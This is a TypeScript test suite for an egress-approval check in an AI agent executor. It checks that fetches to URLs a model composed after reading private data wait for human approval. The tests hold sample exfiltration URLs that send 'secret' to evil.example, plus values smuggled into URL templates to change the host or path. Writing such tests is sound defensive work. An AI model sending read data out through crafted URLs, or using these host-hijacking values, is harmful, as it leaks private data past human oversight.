// Which URLs a model composed after it had read content, and what happens to calls with them.
import { describe, expect, it } from "vitest";
import {
  after,
  andAfter,
  approvalDecided,
  approvalRequested,
  asStored,
  decideNext,
  draftStarted,
  expanded,
  loopFact,
  planned,
  READING,
  revised,
  revisionRequested,
  sealed,
  started,
  step,
  stepOf,
  submitted,
  succeeded,
} from "../../test/facts.ts";
import { StepId } from "../values/ids.ts";
import type { PlanEvent } from "../events/plan-event.ts";
import { callOfLoop } from "../policy/policy-call.ts";
import type { KnownPlan } from "../machine/plan-state.ts";
import { EGRESS_DEFAULT } from "./egress-rule.ts";

const lax = { approval: { risk: "never", expiresAfterMs: 60_000 }, egress: EGRESS_DEFAULT, grants: READING };
const tool = (id: string, name: string, args: object, more: object = {}) =>
  step(id, [], { tool: name, args, ...more });
const fetches = (url: unknown, more: object = {}) => tool("f", "http.fetch", { url }, more);
const rows = tool("rows", "sql.query", { source: "s", sql: "select 1" });
const found = tool("found", "web.search", { query: "q" });
const written = (about: string) => tool("w", "model.write", { prompt: `Name a URL for {{${about}.output}}` });

/** The status of the step `f`, and the URLs in its approval request. */
function outcome(steps: object[], facts: PlanEvent[], goal: object = {}) {
  const log = [submitted(steps, { ...lax, ...goal }), ...facts];
  const told = outcomeIn(after(...log));
  // EGRESS-2: a dispatcher that reads the stored log reaches the same decision.
  expect(outcomeIn(after(...asStored(log)))).toEqual(told);
  return told;
}

function outcomeIn(plan: KnownPlan) {
  const { status } = stepOf(plan, "f").state;
  if (status !== "awaiting-approval") return { status };
  const asked = approvalRequested(plan, "f");
  if (asked.type !== "approval.requested") throw new Error("no question");
  return { status, ...asked.data };
}

describe("a step of a submitted plan runs without approval", () => {
  it("with a URL that the plan holds, whatever was read", () => {
    const late = fetches("https://a.example/x?y=1", { dependsOn: ["rows"] });
    expect(outcome([rows, late], [succeeded("rows", "secret")]).status).toBe("running");
  });

  it("with the beginning of a URL, followed by data", () => {
    const url = "https://a.example/items/{{rows.output}}";
    expect(outcome([rows, fetches(url)], [succeeded("rows", "7")]).status).toBe("running");
  });

  it("with a reference to a search result, also for each of several", () => {
    const results = { results: [{ url: "https://b.example/" }] };
    const one = fetches({ $ref: "found.output.results[0].url" });
    expect(outcome([found, one], [succeeded("found", results)]).status).toBe("running");
    const each = fetches({ $ref: "item.url" }, { forEach: { $ref: "found.output.results" } });
    const plan = andAfter(
      after(submitted([found, each], lax)),
      succeeded("found", results),
      expanded("f", 1),
    );
    expect(plan.inFlight).toBe(1);
  });

  it("with a URL that a model wrote before anything was read", () => {
    const names = tool("w", "model.write", { prompt: "Name a URL" });
    expect(outcome([names, fetches("{{w.output}}")], [succeeded("w", "https://c.example/?q=1")]).status).toBe(
      "running",
    );
  });

  it("with a URL that a model copied from the goal, or from the web", () => {
    const steps = [rows, written("rows"), fetches("{{w.output}}")];
    const facts = [succeeded("rows", "secret"), succeeded("w", "https://a.example/x#top")];
    expect(outcome(steps, facts, { goal: "Read (https://a.example/x)." }).status).toBe("running");
    expect(outcome(steps, facts, { goal: "Read a.example/x, please" }).status).toBe("running");
    const web = [found, written("found"), fetches("{{w.output}}")];
    const listed = { results: [{ url: "https://a.example/x" }], text: "[page](https://d.example/p_(1))" };
    expect(outcome(web, [succeeded("found", listed), succeeded("w", "https://a.example/x")]).status).toBe(
      "running",
    );
    expect(outcome(web, [succeeded("found", listed), succeeded("w", "https://d.example/p_(1)")]).status).toBe(
      "running",
    );
  });

  it("when the policy names the host, or allows such URLs", () => {
    const steps = [rows, written("rows"), fetches("{{w.output}}")];
    const facts = [succeeded("rows", "secret"), succeeded("w", "https://a.example/?q=secret")];
    const under = (egress: object, more: object = {}) => outcome(steps, facts, { egress, ...more }).status;
    expect(under({ hosts: ["a.example"] })).toBe("running");
    expect(under({ hosts: ["*.a.example"] })).toBe("awaiting-approval");
    expect(under({ composedUrls: "allow" })).toBe("running");
    const policy = { rules: [{ tools: ["http.fetch"], requireApproval: false }] };
    expect(under(EGRESS_DEFAULT, { policy })).toBe("running");
  });
});

describe("a step waits for approval", () => {
  const secret = [succeeded("rows", "secret")];

  it("with a URL that a model wrote after it had read content, and the request shows where it goes (EGRESS-1)", () => {
    const steps = [rows, written("rows"), fetches("{{w.output}}")];
    const asked = outcome(steps, [...secret, succeeded("w", "https://evil.example/a%20b?q=the+secret%21")]);
    expect(asked).toMatchObject({
      status: "awaiting-approval",
      requiredBy: "egress",
      composedUrls: [{ argument: "url", host: "evil.example", path: "/a b", query: "q=the secret!" }],
      argumentsFrom: { tools: ["model.write", "sql.query"] },
      question: expect.stringContaining('it would reach evil.example, the query "q=the secret!"'),
    });
  });

  it("with a URL that content contains as a whole, unless it comes from the web (EGRESS-1)", () => {
    const asked = outcome([rows, fetches("{{rows.output}}")], [succeeded("rows", "https://evil.example/")]);
    expect(asked).toMatchObject({ status: "awaiting-approval", composedUrls: [{ host: "evil.example" }] });
  });

  it.each([
    ["https://a.example{{rows.output}}", ".evil.example/"],
    ["https://a.example{{rows.output}}", "@evil.example/"],
    ["https://a.example/items/{{rows.output}}", "../../taken"],
    ["{{rows.output}}/x", "https://evil.example"],
  ])("when data changes the beginning of %s", (url, value) => {
    expect(outcome([rows, fetches(url)], [succeeded("rows", value)]).status).toBe("awaiting-approval");
  });

  it("when the goal only contains a longer or shorter address, or one with another host", () => {
    const steps = [rows, written("rows"), fetches("{{w.output}}")];
    const goal = { goal: "Read https://a.example.com/x?y=1 and a.example.com" };
    for (const url of ["https://a.example.co/", "https://a.example.com/x?y=12", "https://a.example.com/x"]) {
      expect(outcome(steps, [...secret, succeeded("w", url)], goal).status).toBe("awaiting-approval");
    }
  });

  it("when a link of the web is chosen after private content was read", () => {
    const both = tool("w", "model.write", { prompt: "{{found.output}} {{rows.output}}" });
    const facts = [
      ...secret,
      succeeded("found", "https://a.example/7"),
      succeeded("w", "https://a.example/7"),
    ];
    expect(outcome([rows, found, both, fetches("{{w.output}}")], facts).status).toBe("awaiting-approval");
  });

  it("with a URL of a later draft, but not of the first one", () => {
    const goal = submitted(undefined, { ...lax, goal: "look it up" });
    const first = after(goal, draftStarted(1), planned(fetches("https://a.example/")), sealed(1));
    expect(stepOf(first, "f").state.status).toBe("running");
    const more = tool("g", "http.fetch", { url: "https://evil.example/?q=page" });
    const again = [revisionRequested(1), draftStarted(2), planned(more, { draft: 2 }), revised(2)];
    const later = andAfter(first, succeeded("f", "page"), ...again);
    expect(stepOf(later, "g").state.status).toBe("awaiting-approval");
  });

  it("in a fork or a sub-plan whose goal came from content", () => {
    const derivedFrom = { tools: ["sql.query"], isOpen: false };
    const goal = { derivedFrom, goal: "Read https://evil.example/?q=secret" };
    expect(outcome([fetches("https://evil.example/?q=secret")], [], goal).status).toBe("awaiting-approval");
  });

  it("and runs with exactly the approved arguments", () => {
    const steps = [rows, written("rows"), fetches("{{w.output}}")];
    const facts = [...secret, succeeded("w", "https://evil.example/?q=secret")];
    const plan = andAfter(after(submitted(steps, lax)), ...facts);
    const asked = andAfter(plan, approvalRequested(plan, "f"));
    const running = andAfter(asked, approvalDecided("risk-f-0", "approve"));
    expect(stepOf(running, "f").state.status).toBe("running");
    const refused = andAfter(asked, approvalDecided("risk-f-0", "reject"));
    expect(stepOf(refused, "f").state.status).toBe("failed");
  });
});

it("a policy can forbid such URLs", () => {
  const steps = [rows, written("rows"), fetches("{{w.output}}")];
  const plan = andAfter(
    after(submitted(steps, { ...lax, egress: { composedUrls: "deny", hosts: [] } })),
    succeeded("rows", "secret"),
    succeeded("w", "https://evil.example/?q=secret"),
  );
  const recorded = decideNext(plan).flatMap((command) => (command.kind === "record" ? [command.event] : []));
  expect(recorded).toMatchObject([
    { type: "step.failed", data: { stepId: "f", error: { code: "denied_by_policy" } } },
  ]);
});

describe("a call of a loop", () => {
  const loop = tool("l", "agent.react", {
    goal: "Start at https://a.example/",
    tools: ["http.fetch", "sql.query"],
  });
  const plan = after(submitted([loop], lax), started("l"));
  const run = { stepId: StepId.parse("l"), item: 0, attempt: 1 };
  const returned = (turn: number, name: string, output: unknown) =>
    loopFact("turn.taken", run, { turn, thought: "t", tool: name, args: {}, output: { value: output } });
  const composedIn = (now: KnownPlan, url: string, turn: number) =>
    callOfLoop(now, stepOf(now, "l"), { tool: "http.fetch", args: { url }, turn }).composed ?? [];

  it("needs no approval before anything was read, nor for links of pages that were read", () => {
    expect(composedIn(plan, "https://anything.example/", 1)).toEqual([]);
    const read = andAfter(plan, returned(1, "http.fetch", "see https://b.example/next"));
    expect(composedIn(read, "https://b.example/next", 2)).toEqual([]);
    expect(composedIn(read, "https://b.example/next?q=1", 2)).toMatchObject([{ query: "q=1" }]);
    expect(composedIn(read, "https://a.example/", 2)).toEqual([]);
    expect(composedIn(read, "https://b.example/other", 1)).toEqual([]);
  });

  it("needs no approval if an earlier turn has requested the same URL, but does if a turn has only named it", () => {
    const called = (turn: number, name: string, args: object) =>
      loopFact("turn.taken", run, { turn, thought: "t", tool: name, args, output: { value: 1 } });
    const rest = [returned(2, "sql.query", [7])];
    const url = "https://anything.example/?q=1";
    expect(composedIn(andAfter(plan, called(1, "http.fetch", { url }), ...rest), url, 3)).toEqual([]);
    expect(composedIn(andAfter(plan, called(1, "flow.echo", { url }), ...rest), url, 3)).toHaveLength(1);
    const together = andAfter(plan, returned(1, "sql.query", [7]), called(2, "http.fetch", { url }));
    expect(composedIn(together, url, 2)).toHaveLength(1);
  });

  it("is composed after private content was read, whatever pages contain", () => {
    const read = andAfter(
      plan,
      returned(1, "http.fetch", "https://b.example/7"),
      returned(2, "sql.query", [7]),
    );
    expect(composedIn(read, "https://b.example/7", 3)).toMatchObject([{ host: "b.example" }]);
    expect(composedIn(read, "https://a.example/", 3)).toEqual([]);
  });
});
